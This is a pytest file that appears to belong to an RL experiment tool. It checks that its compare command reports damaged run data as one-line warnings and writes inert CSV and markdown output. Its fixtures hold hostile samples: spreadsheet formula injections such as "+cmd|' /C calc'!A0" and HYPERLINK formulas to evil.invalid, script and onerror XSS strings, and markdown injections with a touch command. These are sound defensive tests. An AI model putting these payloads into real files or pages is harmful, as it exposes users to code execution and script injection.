"""`rlexp compare` as a reader of a sweep someone else made (issue 41, finding 9): every damaged input is one
line naming the file and line and what was done, never a traceback; every name and value it writes out is
inert in a spreadsheet, a markdown renderer and a plot.

The hostile sweep is generated: real run folders written by the real manifest writer and JsonlTracker, then
edited the way an attacker edits JSON (a run name, an `extra` value, lines appended to metrics.jsonl).
"""
from __future__ import annotations

import csv
import json
import math
import os
import random
import re
import subprocess
import sys
from pathlib import Path

import pytest
from omegaconf import OmegaConf

from rlexp.tracking.base import JsonlTracker, Trackers
from rlexp.tracking.cells import FORMULA_STARTS, csv_cell, md_text, plot_text
from rlexp.tracking.compare import compare
from rlexp.tracking.manifest import write_start_manifest
from rlexp.tracking.metric_rows import MAX_DEPTH, MAX_LINE_BYTES, duplicate_steps, ranges, read_rows
from rlexp.tracking.runs import load_run_dir

REPO = Path(__file__).resolve().parents[1]

# --------------------------------------------------------------------------------------------- cells
FORMULAS = ['=HYPERLINK("http://evil.invalid/?x="&A1,"click")', "@SUM(1+1)", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
            "-", "-inf", "=", "\n=1"]
PLAIN = ["-0.25", "-1", "-1e-05", "0.5", "12", ".5", "reward=rule,seed=0", "", "a=1", "x-y"]


@pytest.mark.parametrize("value", FORMULAS)
def test_csv_cell_neutralises_formulas(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN)
def test_csv_cell_keeps_numbers_and_text(value: str) -> None:
    assert csv_cell(value) == value


def test_md_text_is_inert() -> None:
    s = md_text("<script>alert(1)</script> a|b `x` [c](http://e) ![p](http://e/p.png)\n# Heading\r\x1b[31m")
    assert "<" not in s and ">" not in s and "\n" not in s and "\r" not in s and "\x1b" not in s
    assert "&lt;script&gt;" in s and "a\\|b" in s and "\\`x\\`" in s and "\\[c\\](http" in s
    assert plot_text("$\\frac{1}{0}$\nx") == "\\$\\frac{1}{0}\\$ x"


# --------------------------------------------------------------------------------------------- rows
BAD_LINES: list[tuple[bytes, str]] = [
    (b'{"step": 1, "reward/mean": Infinity}', "'reward/mean' is inf, not finite; value dropped"),
    (b'{"step": 1, "reward/mean": -Infinity}', "'reward/mean' is -inf, not finite; value dropped"),
    (b'{"step": 1, "reward/mean": 1e999}', "not finite"),
    (b'{"step": "two", "reward/mean": 0.5}', 'step "two" is not a whole number in [0, 2^63); row skipped'),
    (b'{"step": 1' + b"0" * 30 + b', "reward/mean": 0.5}', "is not a whole number in [0, 2^63)"),
    (b'{"step": 1, "reward/mean": 1.7e308}', "'reward/mean' is 1.7e+308, beyond 1e+100 in magnitude; value dropped"),
    (b'{"step": 1.5, "reward/mean": 0.5}', "step 1.5 is not a whole number"),
    (b'{"step": true, "reward/mean": 0.5}', "step true is not a whole number"),
    (b'{"step": -3, "reward/mean": 0.5}', "step -3 is not a whole number"),
    (b'{"reward/mean": 0.5}', "no step; row skipped"),
    (b'{"step": 1, "reward/mean": "0.5"}', "'reward/mean' is \"0.5\", not a number; value dropped"),
    (b'{"step": 1, "reward/mean": [0.5]}', "not a number; value dropped"),
    (b'[1, 2]', "a JSON list, not an object; row skipped"),
    (b'"just a string"', "a JSON str, not an object"),
    (b'{"step": 1, "reward', "not JSON"),
    (b"[" * 200_000 + b"]" * 200_000, f"over the limit of {MAX_DEPTH}; row skipped"),
    (b'{"step": 1, "x": ' + b"[" * 40 + b"]" * 40 + b"}", "nested 41 levels deep"),  # the row itself is a level
    (b'{"step": 1, "na\xffme": 0.5}', "not UTF-8 (byte 0xff at column 16); row skipped"),
    (b'{"step": 1, "pad": "' + b"x" * (MAX_LINE_BYTES + 10) + b'"}', f"over the limit of {MAX_LINE_BYTES}"),
    (b'{"step": 1, "n": ' + b"9" * 5000 + b"}", "not JSON"),
]


@pytest.mark.parametrize("line,expected", BAD_LINES, ids=[f"case{i}" for i in range(len(BAD_LINES))])
def test_each_bad_line_is_one_problem_naming_file_and_line(tmp_path: Path, line: bytes, expected: str) -> None:
    path = tmp_path / "metrics.jsonl"
    path.write_bytes(b'{"step": 0, "reward/mean": 0.1}\n' + line + b'\n{"step": 2, "reward/mean": NaN}\n')
    problems: list[str] = []
    rows = read_rows(path, problems)
    assert len(problems) == 1, problems
    assert problems[0].startswith(f"{path}:2: ") and expected in problems[0], problems[0]
    assert rows[0] == {"step": 0, "reward/mean": 0.1} and rows[-1]["step"] == 2  # the good rows around it stay
    assert all(isinstance(r["step"], int) for r in rows)
    assert all(isinstance(v, (int, float)) and not isinstance(v, bool) for r in rows for v in r.values())


def test_duplicate_steps_are_found_and_later_rows_win(tmp_path: Path) -> None:
    rows = [{"step": s, "loss": 1.0, "time/unix_s": 1.0} for s in range(4)]
    rows += [{"step": 3, "eval/accuracy": 0.5, "time/unix_s": 2.0}]  # its own row: a final evaluation, no duplicate
    assert duplicate_steps(rows) == []
    rows += [{"step": s, "loss": 2.0} for s in range(3)]  # restarted at 0 without truncating
    assert duplicate_steps(rows) == [0, 1, 2] and ranges([0, 1, 2, 5, 7, 8]) == "0-2, 5, 7-8"
    run = tmp_path / "run"
    run.mkdir()
    (run / "metrics.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    rec = load_run_dir(run)
    assert [r["loss"] for r in rec.history] == [2.0, 2.0, 2.0, 1.0]
    assert rec.problems == [f"{run / 'metrics.jsonl'}: steps 0-2 are logged more than once (a run restarted or "
                            "resumed without truncating its metrics); the later rows are used"]


# --------------------------------------------------------------------------------------------- the sweep
NAMES = ['=HYPERLINK("http://evil.invalid","click")', "@SUM(1+1)", "<script>alert(1)</script>",
         "a|b\n# Injected heading\n| x | y |", "`touch /tmp/pwned` ![p](http://evil.invalid/p.png)", "$\\frac{1}{0}$"]
EXTRA = ["=cmd|' /C calc'!A0", "+1+1\n# Injected heading", "-2+3", "\uff1dSUM(A1) `touch /tmp/pwned`", "-0.5",
         "<img src=x onerror=alert(1)> ![p](http://evil.invalid/p.png)"]


def _run(run: Path, i: int, tail: bytes) -> None:
    cfg = OmegaConf.create({"seed": i % 2, "extra": {"note": EXTRA[i]}, "paths": {"run_dir": str(run)}})
    run.mkdir(parents=True)
    manifest = write_start_manifest(run, cfg, ["rlexp", "train", f"seed={i % 2}"], {"global": i}, {}, repo_dir=run)
    with Trackers([JsonlTracker()], cfg, run, manifest) as tr:
        for step in range(3):
            tr.log({"reward/mean": 0.1 * step + 0.01 * i, "eval/accuracy": 0.2 + 0.1 * i, "time/wall_s": step}, step)
    m = json.loads((run / "manifest.json").read_text())
    m["identity"]["run_name"] = NAMES[i]
    (run / "manifest.json").write_text(json.dumps(m))
    with open(run / "metrics.jsonl", "ab") as f:
        f.write(tail)


def hostile_sweep(root: Path) -> dict[str, tuple[int, str]]:
    """Six runs with hostile names and values, each metrics.jsonl with damage appended (lines 4-...); returns
    run folder -> (line, expected text) for one damaged line per run, plus run 5's duplicated steps."""
    cases = [b'{"step": 3, "reward/mean": Infinity}\n', b'{"step": "two", "reward/mean": 0.5}\n',
             b"[1, 2]\n", b"[" * 100_000 + b"]" * 100_000 + b"\n", b'{"step": 3, "x\xfe": 1}\n',
             b'{"step": 0, "reward/mean": 0.9}\n{"step": 1, "reward/mean": NaN}\n']
    expect = ["not finite", "is not a whole number", "not an object", "over the limit", "not UTF-8", "logged more"]
    for i, tail in enumerate(cases):
        _run(root / str(i), i, tail + b'{"step": 4, "reward/mean": 0.3}\n')
    (root / "6").mkdir()  # a run folder whose manifest is nested too deep and whose metrics are not text
    (root / "6" / "manifest.json").write_text("[" * 100_000 + "]" * 100_000)
    (root / "6" / "metrics.jsonl").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    return {str(root / str(i)): (4, e) for i, e in enumerate(expect)}


def _check_outputs(out: Path) -> None:
    for name in ("runs.csv", "compare.csv"):
        with open(out / name, newline="", encoding="utf-8") as f:
            cells = [c for row in csv.reader(f) for c in row]
        live = [c for c in cells if c.lstrip(" \u3000").startswith(FORMULA_STARTS) and c != csv_cell(c)]
        assert not live, (name, live)
    with open(out / "runs.csv", newline="", encoding="utf-8") as f:
        runs = list(csv.DictReader(f))
    cells = {c for r in runs for c in r.values()}
    assert "'" + NAMES[0] in cells and "'@SUM(1+1)" in cells and "'=cmd|' /C calc'!A0" in cells
    assert "-0.5" in cells  # a plain negative number stays a number
    md = (out / "compare.md").read_text(encoding="utf-8")
    assert "<script" not in md and "<img" not in md and "![p](" not in md
    assert not re.search(r"(?<!\\)`", md)  # no code span can open
    assert not [line for line in md.splitlines() if line.lstrip().startswith(("#", "| x"))]
    assert "&lt;img src=x" in md and "\\`touch" in md  # shown as text


def test_hostile_sweep_through_the_cli(tmp_path: Path) -> None:
    """The real `rlexp compare` in a child process: exit 0, one warning line per damaged input naming the file
    and line, no traceback, inert outputs."""
    expected = hostile_sweep(tmp_path / "sweep")
    out = tmp_path / "out"
    env = {**os.environ, "PYTHONPATH": str(REPO), "MPLBACKEND": "Agg"}
    proc = subprocess.run([sys.executable, "-m", "rlexp", "compare", str(tmp_path / "sweep"), "--out", str(out)],
                          capture_output=True, text=True, timeout=300, env=env, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr[-3000:]
    assert "Traceback" not in proc.stderr + proc.stdout
    warnings = [line for line in proc.stderr.splitlines() if line.startswith("rlexp compare: warning: ")]
    for run, (line, what) in expected.items():
        hits = [w for w in warnings if f"{run}/metrics.jsonl" in w and what in w]
        assert hits, (run, what, warnings)
        if "logged more" not in what:
            assert f"metrics.jsonl:{line}: " in hits[0]
    assert any("steps 0-1 are logged more than once" in w and "later rows are used" in w for w in warnings)
    bad6 = [w for w in warnings if f"{tmp_path / 'sweep' / '6'}/" in w]
    assert any("manifest.json: unreadable (nested" in w for w in bad6), bad6
    assert any("metrics.jsonl:1: not UTF-8" in w for w in bad6), bad6
    _check_outputs(out)
    assert "input problem(s)" in (out / "compare.md").read_text(encoding="utf-8")


def test_hostile_sweep_in_process_values(tmp_path: Path) -> None:
    """The values the verdict is made of: damaged values left out, the later duplicate used, NaN a gap."""
    hostile_sweep(tmp_path / "sweep")
    res = compare([str(tmp_path / "sweep")], tmp_path / "out")
    by_source = {Path(r.source).name: r for r in res["runs"]}
    assert by_source["0"].series("reward/mean")[1] == pytest.approx([0.0, 0.1, 0.2, 0.3])  # Infinity dropped
    ys = by_source["5"].series("reward/mean")[1]
    assert ys[0] == 0.9 and math.isnan(ys[1]) and ys[2] == pytest.approx(0.25)  # the later rows of 0 and 1
    assert by_source["6"].history == [] and by_source["6"].problems
    _check_outputs(tmp_path / "out")


def test_a_file_of_bad_lines_is_not_a_flood(tmp_path: Path) -> None:
    from rlexp.tracking.compare import MAX_SHOWN, problem_lines

    run = tmp_path / "run"
    run.mkdir()
    (run / "metrics.jsonl").write_text('{"step": 0, "loss": 1}\n' + "[1]\n" * (MAX_SHOWN + 5))
    rec = load_run_dir(run)
    assert len(rec.problems) == MAX_SHOWN + 5 and len(rec.history) == 1
    lines = problem_lines([rec])
    assert lines[:-1] == rec.problems[:MAX_SHOWN] and lines[-1] == f"{run}: 5 more problems like these"


def test_tracker_sources_get_the_same_checks(tmp_path: Path) -> None:
    """W&B offline files and MLflow histories are files and stores someone else wrote, too: a record that does
    not parse ends the reading there, named; a non-finite value or a bad step is dropped, named."""
    import struct

    from rlexp.tracking.runs import _checked, load_wandb_dir

    run = tmp_path / "wandb" / "offline-run-1" / "run-1.wandb"
    run.parent.mkdir(parents=True)
    junk = b"\xff" * 12  # not a protobuf Record
    run.write_bytes(b":W&B" + b"\x00\x00\x01" + struct.pack("<IHB", 0, len(junk), 1) + junk)
    rec, = load_wandb_dir(tmp_path / "wandb")
    assert rec.history == [] and len(rec.problems) == 1
    assert rec.problems[0].startswith(f"{run}: record 1 does not parse (Error parsing message")
    assert rec.problems[0].endswith("the rest of the file is skipped")
    problems: list[str] = []
    rows = _checked([{"step": 0, "loss": float("inf")}, {"step": 1.0, "loss": 0.5}, {"step": float("nan")}],
                    "mlflow:exp/abc", problems)
    assert rows == [{"step": 0}, {"step": 1, "loss": 0.5}]
    assert problems == ["mlflow:exp/abc step 0: 'loss' is inf, not finite; value dropped",
                        "mlflow:exp/abc step nan: step nan is not a whole number in [0, 2^63); row skipped"]


FUZZ_VALUES = [0, 1, -1, 0.5, -0.0, 1e99, -1e99, 1e-320, 2**63, -2**70, 10**300, True, None, "x", "", "=1", [], {},
               [1], {"a": 1}, "NaN", float("nan"), float("inf")]
FUZZ_KEYS = ["step", "eval/accuracy", "reward/mean", "time/wall_s", "time/unix_s", "_wall_s", "loss", "", "\u0000",
             "a|b", "<script>", "eval/accuracy\n#", "=x"]


def _fuzz_line(rng: random.Random) -> str:
    if rng.random() < 0.05:
        return rng.choice(["", "null", "1", "[]", '"s"', "{", "}", "NaN", "Infinity", '{"step":}'])
    row: dict = {}
    if rng.random() < 0.9:
        row["step"] = rng.choice([rng.randint(0, 5)] * 5 + FUZZ_VALUES)
    for _ in range(rng.randint(0, 5)):
        row[rng.choice(FUZZ_KEYS)] = rng.choice([*FUZZ_VALUES, rng.random(), rng.gauss(0, 1e50)])
    return json.dumps(row, allow_nan=True)


def test_seeded_random_sweeps_never_end_in_a_traceback(tmp_path: Path) -> None:
    """Seeded random run folders (rows of random keys and values of every JSON type, manifests of the wrong
    shape, names a spreadsheet or a renderer would act on): `compare` finishes or raises ValueError (the CLI's
    one line), and what it writes is inert. This is how the 1e308 and list-seed tracebacks were found."""
    rng = random.Random(41)
    for it in range(30):
        sweep = tmp_path / f"sw{it}"
        for r in range(rng.randint(1, 3)):
            run = sweep / str(r)
            run.mkdir(parents=True)
            (run / "metrics.jsonl").write_text("\n".join(_fuzz_line(rng) for _ in range(rng.randint(0, 8))) + "\n")
            if rng.random() < 0.4:
                m: object = {"schema": 1, "identity": {"run_name": rng.choice(["=a", "<b>", "a\nb", "x"])},
                             "config": {"seed": rng.choice(FUZZ_VALUES[:20]), "extra": {"n": rng.choice(FUZZ_VALUES)}}}
                if rng.random() < 0.3:
                    m = rng.choice([[], "x", {"config": [1]}, {"identity": 3}])
                (run / "manifest.json").write_text(json.dumps(m, allow_nan=True))
        try:
            compare([str(sweep)], tmp_path / f"out{it}", metrics=rng.choice([None, ["loss:best"], ["=x:auc"]]))
        except ValueError:
            continue
        _check_no_live_cells(tmp_path / f"out{it}")


def _check_no_live_cells(out: Path) -> None:
    for name in ("runs.csv", "compare.csv"):
        with open(out / name, newline="", encoding="utf-8") as f:
            assert all(csv_cell(c) == c or c.startswith("'") for row in csv.reader(f) for c in row)
    md = (out / "compare.md").read_text(encoding="utf-8")
    assert "<script" not in md and not [x for x in md.splitlines() if x.startswith("#")]
